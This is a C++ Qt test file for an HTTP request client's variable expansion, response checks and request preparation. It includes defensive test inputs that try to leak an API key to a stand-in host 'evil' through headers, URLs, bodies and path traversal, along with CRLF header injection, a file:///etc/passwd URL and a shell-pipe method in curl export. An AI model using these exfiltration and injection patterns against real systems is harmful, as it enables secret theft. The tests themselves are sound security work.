// SPDX-License-Identifier: GPL-3.0-or-later
#include "client/requests/checks.h"
#include "client/requests/environments.h"
#include "client/requests/prepare.h"
#include "client/requests/requestcode.h"

#include <QTest>

using namespace Requests;

namespace {

Answer answerOf(const QByteArray &body, int status = 200)
{
    return {status, {{"Content-Type", "application/json"}, {"X-Total", "12"}}, body, 34'800};
}

Result<QByteArray> noFiles(const QString &)
{
    return badInput(QStringLiteral("no file"));
}

Variables fixedVariables()
{
    return Variables({[] { return QDateTime(QDate(2026, 2, 28), QTime(23, 30), Qt::UTC); },
                      [](quint64 below) { return below - 1; }});
}

} // namespace

class TestRequests final : public QObject
{
    Q_OBJECT

private slots:
    void givesVariablesTheirValues_data()
    {
        QTest::addColumn<QByteArray>("text");
        QTest::addColumn<QByteArray>("value");
        QTest::newRow("file") << QByteArray("a {{ city }}!") << QByteArray("a Berlin!");
        QTest::newRow("nested") << QByteArray("{{url}}") << QByteArray("http://h:1/Berlin");
        QTest::newRow("within JSON")
            << QByteArray("{\"a\":{\"b\":{{n}}}}") << QByteArray("{\"a\":{\"b\":7}}");
        QTest::newRow("three braces") << QByteArray("{{{n}}}") << QByteArray("{7}");
        QTest::newRow("open braces") << QByteArray("a {{ b\n }} {") << QByteArray("a {{ b\n }} {");
        QTest::newRow("encoded") << QByteArray("{{%odd}}") << QByteArray("a%20%26b");
        QTest::newRow("answer") << QByteArray("{{login.response.body.token}}") << QByteArray("t0");
        QTest::newRow("JSON path")
            << QByteArray("{{login.response.body.$.list[1].a}}") << QByteArray("2");
        QTest::newRow("header of an answer")
            << QByteArray("{{login.response.headers.x-total}}") << QByteArray("12");
        QTest::newRow("what was sent")
            << QByteArray("{{login.request.body.who}}") << QByteArray("jane");
        QTest::newRow("time") << QByteArray("{{$timestamp}}") << QByteArray("1772321400");
        QTest::newRow("time moved") << QByteArray("{{$timestamp 1 h}}") << QByteArray("1772325000");
        QTest::newRow("date") << QByteArray("{{$datetime \"YYYY-MM-DD\" 1 d}}")
                              << QByteArray("2026-03-01");
        QTest::newRow("ISO date") << QByteArray("{{$isoTimestamp}}")
                                  << QByteArray("2026-02-28T23:30:00.000Z");
        QTest::newRow("date of HTTP")
            << QByteArray("{{$datetime rfc1123}}") << QByteArray("Sat, 28 Feb 2026 23:30:00 GMT");
        QTest::newRow("number") << QByteArray("{{$randomInt 5 10}}") << QByteArray("9");
        QTest::newRow("number of JetBrains")
            << QByteArray("{{$random.integer(5, 10)}}") << QByteArray("9");
        QTest::newRow("number of all")
            << QByteArray("{{$randomInt -9223372036854775808 9223372036854775807}}")
            << QByteArray("9223372036854775806");
        QTest::newRow("digits") << QByteArray("{{$random.hexadecimal(4)}}") << QByteArray("ffff");
        QTest::newRow("id") << QByteArray("{{$guid}}")
                            << QByteArray("ffffffff-ffff-4fff-bfff-ffffffffffff");
    }

    void givesVariablesTheirValues()
    {
        QFETCH(QByteArray, text);
        QFETCH(QByteArray, value);
        Variables variables = fixedVariables();
        variables.setEnvironment({{"city", "Rome"}, {"port", "1"}, {"odd", "a &b"}});
        variables.setFile({{"city", "Berlin"}, {"url", "http://h:{{port}}/{{city}}"}, {"n", "7"}});
        variables.setAnswer("login", {"POST", "/x", {}, R"({"who":"jane"})"},
                            answerOf(R"({"token":"t0","list":[{"a":1},{"a":2}]})"));
        const auto expanded = variables.expand(text);
        QVERIFY2(expanded, expanded ? "" : qPrintable(expanded.error().message));
        QCOMPARE(*expanded, value);
    }

    void namesTheVariableWithoutValue_data()
    {
        QTest::addColumn<QByteArray>("text");
        QTest::addColumn<QString>("part");
        QTest::newRow("unknown") << QByteArray("{{nobody}}") << QStringLiteral("\"nobody\"");
        QTest::newRow("circle") << QByteArray("{{a}}") << QStringLiteral("made of itself");
        QTest::newRow("not sent") << QByteArray("{{x.response.body.a}}")
                                  << QStringLiteral("\"x\" was not sent yet");
        QTest::newRow("unknown function")
            << QByteArray("{{$nothing}}") << QStringLiteral("$nothing");
        QTest::newRow("no range") << QByteArray("{{$randomInt 5 5}}")
                                  << QStringLiteral("$randomInt");
        QTest::newRow("of the process")
            << QByteArray("{{$processEnv HOME}}") << QStringLiteral("only by hookdeskd");
        QTest::newRow("a time that is none")
            << QByteArray("{{$timestamp 2000000000 y}}") << QStringLiteral("$timestamp");
        QTest::newRow("multiplying") << QByteArray("{{m0}}") << QStringLiteral("too long");
    }

    void namesTheVariableWithoutValue()
    {
        QFETCH(QByteArray, text);
        QFETCH(QString, part);
        Variables variables = fixedVariables();
        QList<FileVariable> file = {{"a", "{{b}}"}, {"b", "x{{a}}"}, {"m9", ""}};
        for (int i = 0; i < 9; ++i) // 30^9 variables of no length
            file.append({"m" + QByteArray::number(i),
                         ("{{m" + QByteArray::number(i + 1) + "}}").repeated(30)});
        variables.setFile(file);
        const auto expanded = variables.expand(text);
        QVERIFY(!expanded);
        QVERIFY2(expanded.error().message.contains(part), qPrintable(expanded.error().message));
    }

    void namesTheVariableThatTheProcessHasNot()
    {
        Variables::Sources sources;
        sources.process = [](const QByteArray &name) -> std::optional<QByteArray> {
            return name == "EMPTY" ? std::optional(QByteArray()) : std::nullopt;
        };
        QCOMPARE(*Variables(sources).expand("a{{$processEnv EMPTY}}"), "a");
        const auto none = Variables(sources).expand("{{$processEnv NONE}}");
        QVERIFY(!none && none.error().message.contains(QStringLiteral("\"NONE\"")));
    }

    void forgetsOldAnswersWhereTheyAreLarge()
    {
        Variables variables;
        const QByteArray large(100 * 1024 * 1024, 'x');
        for (const char *name : {"a", "b", "c"})
            variables.setAnswer(name, {}, answerOf(large));
        QVERIFY(!variables.valueOf("a.response.status"));
        QCOMPARE(*variables.valueOf("b.response.status"), "200");
        QCOMPARE(*variables.valueOf("c.response.status"), "200");
    }

    void checksAnswers_data()
    {
        QTest::addColumn<QByteArray>("check");
        QTest::addColumn<QString>("message"); // empty: it passes
        const auto add = [](const char *check, const char *message = "") {
            QTest::newRow(check) << QByteArray(check) << QString::fromUtf8(message);
        };
        add("status == 201");
        add("status != 200");
        add("status == 200", "expected status == 200, but it is 201");
        add("body.list[0].field == \"email\"");
        add("body.list[0].field == email");
        add("body.list[-1].field != email");
        add("body.list[9].field == \"a\"",
            "expected body.list[9].field == \"a\", but it is missing");
        add("body.list.length == 2");
        add("body[\"a == b\"] == 1");
        add("body.total > 46");
        add("body.total == 46.880");
        add("body.total <= 46", "expected body.total <= 46, but it is 46.88");
        add("body.name < 5",
            "expected body.name < 5, but it is \"Zo\u00eb\", which has no order with 5");
        add("body.name contains Zo");
        add("body.list contains {\"field\":\"x\"}");
        add("body.odd <= 5",
            "expected body.odd <= 5, but it is \"nan\", which has no order with 5");
        add("body contains total");
        add("body.name matches ^Z.+$");
        add("body.name matches (",
            "expected body.name matches \"(\", but it cannot be compared: "
            "missing closing parenthesis");
        add("body.none missing");
        add("body.null exists");
        add("body.none exists", "body.none should exist, but is missing");
        add("body.total missing", "body.total should be missing, but is 46.88");
        add("headers.x-total == 12");
        add("headers.x-total > 9");
        add("headers.content-type contains json");
        add("duration < 40");
        add("duration < 20", "expected duration < 20, but it is 34.8");
        add("body.total == {{want}}");
        add("body.total == {{nobody}}", "There is no variable \"nobody\".");
        add("nothing == 1",
            "expected nothing == 1, but it cannot be looked at: \"nothing\" is no "
            "path such as body.list[0].name.");
    }

    void checksAnswers()
    {
        QFETCH(QByteArray, check);
        QFETCH(QString, message);
        Variables variables;
        variables.setFile({{"want", "46.88"}});
        const auto parsed = Check::parse(check);
        QVERIFY(parsed);
        const Check::Outcome outcome = parsed->run(
            answerOf(R"({"list":[{"field":"email"},{"field":"x"}],"total":46.88,"name":"Zo)"
                     "\u00eb"
                     R"(","null":null,"odd":"nan","a == b":1})",
                     201),
            variables);
        QCOMPARE(outcome.message, message);
        QCOMPARE(outcome.hasPassed, message.isEmpty());
    }

    void refusesWhatIsNoCheck_data()
    {
        QTest::addColumn<QByteArray>("check");
        for (const char *each : {"", "status", "status ==", "== 200", "status is 200",
                                 "body exists now", "body.containsx"})
            QTest::newRow(each) << QByteArray(each);
    }

    void refusesWhatIsNoCheck()
    {
        QFETCH(QByteArray, check);
        QVERIFY(!Check::parse(check));
    }

    void readsEnvironments()
    {
        const auto read = Environments::parse(
            R"({"$shared":{"v":"1"},"dev":{"host":"a","port":8},"prod":{"host":"b"}})",
            R"({"dev":{"key":"k"},"own":{"host":"c"}})");
        QVERIFY(read);
        QCOMPARE(read->names(), (QByteArrayList{"dev", "prod", "own"}));
        QCOMPARE(read->valuesOf("dev"),
                 (Values{{"v", "1"}, {"host", "a"}, {"port", "8"}, {"key", "k"}}));
        QVERIFY(read->isPrivate("dev", "key"));
        QVERIFY(!read->isPrivate("dev", "host"));
        const auto wrong = Environments::parse("{", {});
        QVERIFY(!wrong);
        QVERIFY(wrong.error().message.startsWith(QStringLiteral("http-client.env.json: ")));
        QVERIFY(!Environments::parse({}, R"({"dev":1})"));
    }

    void preparesWhatIsSent_data()
    {
        QTest::addColumn<QByteArray>("text");
        QTest::addColumn<QByteArray>("url");
        QTest::addColumn<QByteArray>("headers");
        QTest::addColumn<QByteArray>("body");
        const auto add = [](const char *name, const char *text, const char *url,
                            const char *headers, const char *body) {
            QTest::newRow(name) << QByteArray(text) << QByteArray(url) << QByteArray(headers)
                                << QByteArray(body);
        };
        add("path", "GET /rest/a?q={\"b\":\"\u00e4 c\"}#d",
            "http://h:1/rest/a?q=%7B%22b%22:%22%C3%A4%20c%22%7D", "", "");
        add("host", "GET /a\nHost: other:9", "http://other:9/a", "Host: other:9", "");
        add("without scheme", "GET localhost:8080/x", "http://localhost:8080/x", "", "");
        add("JSON without comments", "POST /a\n\n{\n// why\n# or\n\"a\": \"# b\"\n}",
            "http://h:1/a", "content-type: application/json", "{\n\"a\": \"# b\"\n}");
        add("text with its hashes", "POST /a\ncontent-type: text/markdown\n\n# Title\ntext",
            "http://h:1/a", "content-type: text/markdown", "# Title\ntext");
        add("form", "POST /a\ncontent-type: application/x-www-form-urlencoded\n\na=1\n&b=2 3",
            "http://h:1/a", "content-type: application/x-www-form-urlencoded", "a=1&b=2 3");
        add("multipart",
            "POST /a\ncontent-type: multipart/form-data; boundary=x\n\n--x\n"
            "Content-Disposition: form-data; name=\"a\"\n\n< a.bin\n--x--",
            "http://h:1/a", "content-type: multipart/form-data; boundary=x",
            "--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n<{{b}}>\r\n--x--\r\n");
        add("file with variables", "POST /a\ncontent-type: text/plain\n\n<@ a.bin", "http://h:1/a",
            "content-type: text/plain", "<B>");
        add("basic", "GET /a\nAuthorization: Basic jane secret", "http://h:1/a",
            "Authorization: Basic amFuZTpzZWNyZXQ=", "");
        add("key", "GET /a\nx-apikey: {{key}}", "http://h:1/a", "x-apikey: K", "");
    }

    void preparesWhatIsSent()
    {
        QFETCH(QByteArray, text);
        QFETCH(QByteArray, url);
        QFETCH(QByteArray, headers);
        QFETCH(QByteArray, body);
        Variables variables;
        variables.setConnection("http://h:1/", "K");
        variables.setFile({{"b", "B"}});
        const auto sent = prepare(RequestFile::parse(text).requests().first(), variables,
                                  [](const QString &path) -> Result<QByteArray> {
                                      return path == QLatin1String("a.bin") ? QByteArray("<{{b}}>")
                                                                            : QByteArray("?");
                                  });
        QVERIFY2(sent, sent ? "" : qPrintable(sent.error().message));
        QByteArrayList lines;
        for (const Header &each : sent->headers)
            lines.append(each.first + ": " + each.second);
        QCOMPARE(sent->url, url);
        QCOMPARE(lines.join('\n'), headers);
        QCOMPARE(sent->body, body);
        QCOMPARE(sent->as, Outgoing::As::Headers);
    }

    /// A folder of requests may come from a stranger, who would like to have the key.
    void keepsTheKeyOfTheConnection_data()
    {
        QTest::addColumn<QByteArray>("text");
        QTest::newRow("header") << QByteArray("GET http://evil/\nx-apikey: {{key}}");
        QTest::newRow("address") << QByteArray("GET http://evil/?{{key}}");
        QTest::newRow("host in the address") << QByteArray("GET {{base}}{{key}}.evil/");
        QTest::newRow("longer port") << QByteArray("GET http://h:12/\nx-apikey: {{key}}");
        QTest::newRow("user part") << QByteArray("GET http://h:1@evil/\nx-apikey: {{key}}");
        QTest::newRow("host header") << QByteArray("GET /\nHost: evil\nx-apikey: {{key}}");
        QTest::newRow("variable") << QByteArray("@k = {{key}}\nGET http://evil/\na: {{k}}");
        QTest::newRow("body") << QByteArray("POST http://evil/\n\n{{key}}");
        QTest::newRow("earlier request")
            << QByteArray("POST http://evil/\n\n{{login.request.headers.x-apikey}}");
        QTest::newRow("as another request encoded it")
            << QByteArray("GET http://evil/\nx: {{basic.request.headers.authorization}}");
        QTest::newRow("as another body encoded it")
            << QByteArray("POST http://evil/\n\n{{basic.request.body.*}}");
        QTest::newRow("beside the path of the server")
            << QByteArray("GET http://h:1/app/../evil\nx-apikey: {{key}}");
        QTest::newRow("beside it, encoded")
            << QByteArray("GET http://h:1/app/%2e%2E/evil\nx-apikey: {{key}}");
        QTest::newRow("key of an id") << QByteArray("# @as key 1\nGET http://evil/");
    }

    void keepsTheKeyOfTheConnection()
    {
        QFETCH(QByteArray, text);
        const RequestFile file = RequestFile::parse(text);
        Variables variables;
        const bool isBelow = QByteArray(QTest::currentDataTag()).startsWith("beside");
        variables.setConnection(isBelow ? "http://h:1/app" : "http://h:1", "SECRET+");
        const RequestFile basic = RequestFile::parse(
            "POST {{base}}/\nAuthorization: Basic {{key}} x\ncontent-type: text/plain\n\n{{%key}}");
        const auto sentBefore = prepare(basic.requests().first(), variables, noFiles);
        QVERIFY(sentBefore && sentBefore->body == "SECRET%2B");
        variables.setAnswer("basic", *sentBefore, answerOf("{}"));
        variables.setFile(file.variables());
        variables.setAnswer("login", {"GET", "http://h:1/", {{"x-apikey", "SECRET+"}}},
                            answerOf("{}"));
        const auto sent = prepare(file.requests().first(), variables, noFiles);
        QVERIFY(!sent);
        QVERIFY(!sent.error().message.contains(QStringLiteral("SECRET")));
    }

    void refusesWhatCannotBeSent_data()
    {
        QTest::addColumn<QByteArray>("text");
        QTest::newRow("other scheme") << QByteArray("GET {{x}}\n@");
        QTest::newRow("broken header") << QByteArray("GET http://a\nb: {{lines}}");
        QTest::newRow("unknown sender") << QByteArray("# @as somebody\nGET /a");
        QTest::newRow("missing file") << QByteArray("POST http://a\n\n< b");
    }

    void refusesWhatCannotBeSent()
    {
        QFETCH(QByteArray, text);
        Variables variables;
        variables.setEnvironment({{"lines", "a\r\nb: c"}, {"x", "file:///etc/passwd"}});
        QVERIFY(!prepare(RequestFile::parse(text).requests().first(), variables, noFiles));
    }

    /// What a stranger has sent is copied by an administrator, and pasted into a shell.
    void copiesNothingThatAShellRuns()
    {
        const QString command =
            RequestCode::curl({"A|sh", QStringLiteral("http://a"), "/", "@/etc/passwd"});
        QVERIFY2(command.startsWith(QStringLiteral("curl -g -X 'A|sh' ")), qPrintable(command));
        QVERIFY2(command.contains(QStringLiteral("--data-raw '@/etc/passwd'")),
                 qPrintable(command));
    }

    void refusesThousandsOfHeaders()
    {
        const QByteArray text = "GET http://a\n" + QByteArray("a: b\n").repeated(1001);
        QVERIFY(!prepare(RequestFile::parse(text).requests().first(), Variables(), noFiles));
    }

    void sendsAsTheWindowWhereItHasNoKey()
    {
        Variables variables;
        variables.setConnection("http://h:1", {});
        const auto sentAs = [&](const char *text) {
            const auto sent =
                prepare(RequestFile::parse(text).requests().first(), variables, noFiles);
            return sent ? int(sent->as) : -1;
        };
        QCOMPARE(sentAs("GET /a\nx-apikey: {{key}}"), int(Outgoing::As::Connection));
        QCOMPARE(sentAs("GET http://h:1/a\nx-apikey: {{key}}"), int(Outgoing::As::Connection));
        QCOMPARE(sentAs("GET http://other/a\nx-apikey: {{key}}"), -1);
        QCOMPARE(sentAs("GET /a"), int(Outgoing::As::Headers));
        QCOMPARE(sentAs("# @as user jane@example.com\nGET /a"), int(Outgoing::As::User));
        variables.setEnvironment({{"key", "k"}});
        QCOMPARE(sentAs("GET /a\nx-apikey: {{key}}"), int(Outgoing::As::Headers));
    }
};

QTEST_APPLESS_MAIN(TestRequests)
#include "tst_requests.moc"
